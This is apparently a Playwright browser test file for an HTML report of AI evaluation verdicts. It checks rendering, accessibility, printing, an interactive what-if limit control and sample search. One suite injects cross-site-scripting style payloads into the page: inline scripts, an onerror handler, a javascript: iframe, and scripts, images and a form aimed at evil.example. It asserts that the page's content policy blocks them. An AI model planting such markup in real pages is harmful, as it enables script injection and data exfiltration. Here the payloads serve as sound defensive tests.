/** report.html in a real browser: what is drawn, moved, searched and printed, and what may never happen there. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser, BrowserContextOptions, Page } from 'playwright-core';
import { ledgerHtml } from '../../../src/report/html/ledger-page.ts';
import { html } from '../../../src/report/html/verdict-page.ts';
import { HOSTILE } from '../../generators/hostile.ts';
import { findChromium, openChromium } from '../../helpers/chromium.ts';
import { hostileReport } from '../../helpers/hostile.ts';
import { NO_TALLY } from '../../helpers/media.ts';
import { needs } from '../../helpers/needs.ts';
import { PAGE } from '../../helpers/page.ts';
import { assistantReport, entriesOf, hugeReport, type Report } from '../../helpers/reports.ts';
import { KINDS } from '../../helpers/verdicts.ts';

const program = findChromium();
const folder = mkdtempSync(join(tmpdir(), 'near-zero-browser-'));
const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const PHONE = { width: 390, height: 844 };
const DESKTOP = { width: 1280, height: 900 };

let browser: Browser;
beforeAll(async () => {
  if (program !== null) browser = await openChromium(program);
});
afterAll(async () => {
  await browser?.close();
  rmSync(folder, { recursive: true });
});

interface Opened {
  readonly page: Page;
  /** What the browser complained of, and what it asked for beside the page itself. */
  readonly complaints: string[];
  readonly requests: string[];
}

const files = Array.from({ length: 1000 }, (_, index) => join(folder, `${index}.html`)).values();
async function open(text: string, options: BrowserContextOptions = { viewport: DESKTOP }): Promise<Opened> {
  const file = files.next().value!;
  writeFileSync(file, text);
  const page = await browser.newPage(options);
  const complaints: string[] = [];
  const requests: string[] = [];
  page.on('console', (message) => complaints.push(message.text()));
  page.on('pageerror', ({ message }) => complaints.push(message));
  page.on('dialog', (dialog) => {
    complaints.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (url !== `file://${file}` && !url.startsWith('data:')) requests.push(url);
  });
  await page.goto(`file://${file}`);
  return { page, complaints, requests };
}

const htmlOf = (report: Report): string => html(report, report.before, PAGE);
const shown = (page: Page): Promise<string[]> =>
  page.$$eval('main > section:not([hidden])', (sections) => sections.map(({ id }) => id));

async function violationsIn(page: Page): Promise<string[]> {
  await page.evaluate(AXE);
  return page.evaluate<string[]>(`axe.run().then(({ violations }) =>
    violations.map(({ id, impact, nodes }) => impact + ' ' + id + ': ' + nodes.map(({ target }) => target).slice(0, 3)))`);
}

/** Without a browser these are no tests; that was said when the file was loaded. */
const inBrowser = needs('a browser: install `chromium`', program !== null);

inBrowser('the page', () => {
  const report = assistantReport();
  const text = htmlOf(report);

  test('draws every part, asks for nothing and complains of nothing', async () => {
    const { page, complaints, requests } = await open(text);
    await page.waitForSelector('#history .panel svg');
    expect(await shown(page)).toEqual([
      'categories',
      'reasons',
      'history',
      'what-if',
      'plane',
      'severity',
      'samples',
      'evidence',
      'limits',
    ]);
    expect(await page.locator('.forest .plot svg[role=img]').count()).toBe(9);
    expect(await page.locator('#history .panel svg .mark').count()).toBe(5 * 24);
    expect({ complaints, requests }).toEqual({ complaints: [], requests: [] });
    await page.close();
  });

  test('shows no part that has nothing to show', async () => {
    for (const verdict of [KINDS.empty, KINDS.demonstrated]) {
      const { page, complaints } = await open(html({ verdict, tally: NO_TALLY }, [], PAGE));
      const parts = await shown(page);
      expect(parts).not.toContain('history');
      expect(parts).not.toContain('samples');
      expect(await page.locator('nav li:not([hidden])').count()).toBe(parts.length);
      expect(complaints).toEqual([]);
      await page.close();
    }
  });

  test('says all that was decided without scripts, too', async () => {
    const { page } = await open(text, { javaScriptEnabled: false });
    const said = await page.innerText('body');
    for (const words of [
      'Blocked: prompt-injection is violated',
      '12 of 700',
      'above-limit',
      'Without scripts',
    ])
      expect(said).toContain(words);
    expect(await shown(page)).toEqual(['categories', 'reasons', 'evidence', 'limits']);
    await page.close();
  });

  test.each([
    ['desktop', 'light', DESKTOP],
    ['desktop', 'dark', DESKTOP],
    ['phone', 'light', PHONE],
    ['phone', 'dark', PHONE],
  ] as const)('is accessible on a %s, %s', async (_device, colorScheme, viewport) => {
    // axe is put into the page, which the page's own policy rightly forbids.
    const { page } = await open(text, { viewport, colorScheme, bypassCSP: true });
    await page.waitForSelector('#history .panel svg');
    await page.locator('#history details summary').click();
    expect(await violationsIn(page)).toEqual([]);
    await page.close();
  });

  /** Whatever fonts a machine has: its own, and letters wider than any of them. */
  test.each([
    ['its own letters', ':root {}'],
    ['wide letters', '* { font-family: monospace !important; letter-spacing: 0.12em !important }'],
  ])('is as wide as its window with %s, and no wider', async (_letters, content) => {
    for (const width of [320, 390, 768, 1280]) {
      const { page } = await open(text, { viewport: { width, height: 800 }, bypassCSP: true });
      await page.waitForSelector('#history .panel svg');
      await page.addStyleTag({ content });
      expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(width);
      await page.close();
    }
  });

  test('is printed whole: light, without what only a screen can use', async () => {
    const { page } = await open(text, { viewport: DESKTOP, colorScheme: 'dark' });
    await page.waitForSelector('#history .panel svg');
    await page.emulateMedia({ media: 'print' });
    for (const gone of ['nav', '#what-if .controls', '#history .cursor', '#samples .pages'])
      expect(await page.isVisible(gone)).toBe(false);
    expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(253, 253, 252)');
    const pdf = await page.pdf({ format: 'A4' });
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    await page.close();
  });
});

inBrowser('what if', () => {
  const text = htmlOf(assistantReport());
  const flips = (page: Page): Promise<string[]> => page.locator('#what-if .flips li').allInnerTexts();
  const summary = (page: Page): Promise<string> => page.innerText('#what-if .summary');

  test('a limit dragged by the mouse flips recorded bounds, and back', async () => {
    const { page, complaints } = await open(text);
    await page.selectOption('#what-if-category', 'improper-refusal');
    await page.waitForSelector('#what-if .handle');
    expect(await flips(page)).toEqual([]);
    const grip = page.locator('#what-if .grip');
    await grip.scrollIntoViewIfNeeded();
    const { x, y, width, height } = (await grip.boundingBox())!;
    await page.mouse.move(x + width / 2, y + height / 2);
    await page.mouse.down();
    await page.mouse.move(x + width / 2, y - 40, { steps: 5 });
    const looser = await flips(page);
    expect(looser.length).toBeGreaterThan(0);
    expect(looser.every((one) => one.includes('→ bound under the limit.'))).toBe(true);
    await page.mouse.move(x + width / 2, y + 60, { steps: 5 });
    await page.mouse.up();
    const tighter = await flips(page);
    expect(tighter.length).toBeGreaterThan(0);
    expect(tighter[0]).toMatch(/^acme\/assistant-2026-11-01.*bound under the limit → not demonstrated\.$/);
    expect(await summary(page)).toMatch(
      new RegExp(`^At .+% instead of 1%: ${tighter.length} of 24 releases flip`),
    );
    await page.click('#what-if button');
    expect(await flips(page)).toEqual([]);
    expect(complaints).toEqual([]);
    await page.close();
  });

  test('the keyboard does the same, and samples needed follow', async () => {
    const { page } = await open(text);
    await page.selectOption('#what-if-category', 'improper-refusal');
    const handle = page.locator('#what-if .handle');
    await handle.focus();
    const needed = (): Promise<string> => page.locator('#what-if .planner tbody tr').first().innerText();
    expect(await needed()).toMatch(/^0\s+299$/);
    await page.keyboard.press('ArrowDown');
    expect(await handle.getAttribute('aria-valuenow')).toBe('0.9');
    await page.keyboard.press('PageDown');
    expect(await handle.getAttribute('aria-valuenow')).toBe('0.45');
    expect(await handle.getAttribute('aria-valuetext')).toMatch(/^0\.45%: \d+ releases? would flip$/);
    expect(await needed()).toMatch(/^0\s+665$/);
    expect((await flips(page)).length).toBeGreaterThan(0);
    await page.keyboard.press('Escape');
    expect(await summary(page)).toBe('At 1%, the limit of the policy.');
    await page.fill('#what-if-limit', '2,5');
    expect(await summary(page)).toMatch(/^At 2\.5% instead of 1%/);
    await page.fill('#what-if-limit', 'no number');
    expect(await summary(page)).toMatch(/^At 2\.5% instead of 1%/);
    await page.close();
  });

  test('no state on the page changes with it', async () => {
    const { page } = await open(text);
    const states = (): Promise<string[]> => page.locator('.chip').allInnerTexts();
    const before = await states();
    await page.locator('#what-if .handle').focus();
    await page.keyboard.press('End');
    expect(await states()).toEqual(before);
    expect(await page.innerText('h1')).toContain('Blocked');
    await page.close();
  });
});

inBrowser('history and samples', () => {
  const text = htmlOf(assistantReport());

  test('one cursor runs through all categories', async () => {
    const { page } = await open(text);
    await page.focus('#release');
    const said = (): Promise<string> => page.innerText('#history output');
    expect(await said()).toMatch(/\(the latest\): blocked$/);
    await page.keyboard.press('Home');
    expect(await said()).toMatch(/^acme\/assistant-r1, .* \(1 of 24\)/);
    expect(await page.getAttribute('#release', 'aria-valuetext')).toBe(await said());
    await page.close();
  });

  test('samples are found by any words of theirs', async () => {
    const { page } = await open(text);
    await page.fill('#sample-search', 'agent-dojo-11');
    expect(await page.innerText('#samples .summary')).toBe('1 to 1 of 1 sample');
    expect(await page.innerText('#samples tbody')).toContain('agent-dojo-11');
    await page.fill('#sample-search', 'nowhere');
    expect(await page.innerText('#samples .summary')).toBe('No sample has all of these words.');
    await page.close();
  });

  test('a hundred releases of twenty categories and 50,000 samples open at once', async () => {
    const { page, complaints } = await open(htmlOf(hugeReport()));
    await page.waitForSelector('#samples tbody tr');
    const took = await page.evaluate<number>(
      'new Promise((done) => requestAnimationFrame(() => setTimeout(() => done(performance.now()))))',
    );
    process.stdout.write(
      `report.html with 100 × 20 verdicts and 50,000 samples: drawn ${took.toFixed(0)} ms after it was opened\n`,
    );
    expect(took).toBeLessThan(15_000);
    expect(await page.locator('#history .panel svg .mark').count()).toBe(2000);
    expect(await page.innerText('#samples .summary')).toBe('1 to 50 of 50,000 samples');
    await page.click('#samples .pages button:last-child');
    expect(await page.innerText('#samples .summary')).toBe('51 to 100 of 50,000 samples');
    expect(await page.locator('#samples tbody tr').count()).toBe(50);
    expect(complaints).toEqual([]);
    await page.close();
  });
});

inBrowser('the page of a ledger', () => {
  const names = { gate: 'default', place: 'near-zero-ledger', tool: 'near-zero test' };
  const entries = entriesOf(assistantReport().before);

  test('shows the releases of one gate, and what if a limit were another', async () => {
    const others = entriesOf(assistantReport(2).before, 'other');
    const { page, complaints, requests } = await open(ledgerHtml([...entries, ...others], names, PAGE), {
      viewport: DESKTOP,
      bypassCSP: true,
    });
    await page.waitForSelector('#history .panel svg');
    expect(await page.innerText('h1')).toBe('23 verdicts of the gate default');
    expect(await shown(page)).toEqual(['releases', 'history', 'what-if']);
    expect(await page.locator('#releases tbody tr').count()).toBe(23);
    await page.locator('#what-if .handle').focus();
    for (let presses = 0; presses < 3; presses++) await page.keyboard.press('PageUp');
    expect(await page.innerText('#what-if .summary')).toMatch(/: \d+ of 23 releases flip/);
    expect(await violationsIn(page)).toEqual([]);
    expect({ complaints, requests }).toEqual({ complaints: [], requests: [] });
    await page.close();
  });

  test('of a gate that has said nothing says that', async () => {
    const { page, complaints } = await open(ledgerHtml([], names, PAGE));
    expect(await page.innerText('h1')).toBe('0 verdicts of the gate default');
    expect(await shown(page)).toEqual(['releases']);
    expect(complaints).toEqual([]);
    await page.close();
  });
});

inBrowser('nothing of anybody else runs in it', () => {
  const report = assistantReport(0);
  const text = htmlOf(report);

  test.each([
    ['a script', '<script>window.ran = true</script>'],
    ['a handler', '<img src="data:," onerror="window.ran = true">'],
    ['an address that is a script', '<iframe src="javascript:parent.ran = true"></iframe>'],
    ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
    ['a style from elsewhere', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['a picture from elsewhere', '<img src="https://evil.example/beacon.png">'],
    [
      'a form',
      '<form action="https://evil.example/"><button id="send">x</button></form><script>send.click()</script>',
    ],
    ['another base', '<base href="https://evil.example/">'],
  ])('%s that was put into it is blocked', async (_what, injected) => {
    const { page, complaints } = await open(text.replace('<main>', () => `<main>${injected}`));
    await page.waitForSelector('.forest .plot svg');
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(await page.evaluate('document.baseURI')).toMatch(/^file:/);
    expect(complaints.join('\n')).toMatch(/Content Security Policy|ERR_BLOCKED/);
    await page.close();
  });

  test('nor can its own script make markup of text', async () => {
    const { page } = await open(text);
    await expect(page.evaluate("document.body.innerHTML = '<b>x</b>'")).rejects.toThrow('TrustedHTML');
    await expect(page.evaluate("fetch('https://evil.example/')")).rejects.toThrow('Failed to fetch');
    await page.close();
  });

  const names = Object.keys(HOSTILE);
  test.each(Array.from({ length: 5 }, (_, part) => names.filter((_, index) => index % 5 === part)))(
    '%s, %s, %s, %s, … stay text',
    async (...some) => {
      const { page, complaints, requests } = await open(
        html(hostileReport(some.map((name) => HOSTILE[name]!)), [], PAGE),
      );
      await page.waitForSelector('#samples tbody tr');
      expect({ complaints, requests }).toEqual({ complaints: [], requests: [] });
      // The page's own elements, and no other: neither pictures, links nor scripts.
      const strange = await page.$$eval(
        'img, iframe, object, embed, video, audio, script, a, b, i, h1, [onerror], [onclick], [style]',
        (found) =>
          found.map((one) => `${one.tagName.toLowerCase()} ${one.parentElement?.tagName.toLowerCase()}`),
      );
      const counted = Map.groupBy(strange, (one) => one);
      expect([...counted].map(([one, all]) => `${all.length} ${one}`).sort()).toEqual([
        '1 a body',
        '1 b p',
        '1 h1 header',
        '2 script body',
        `${await page.locator('nav a').count()} a li`,
      ]);
      const said = await page.evaluate<string>('document.body.textContent');
      expect(said).not.toMatch(
        /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/,
      );
      expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(1280);
      await page.close();
    },
  );
});
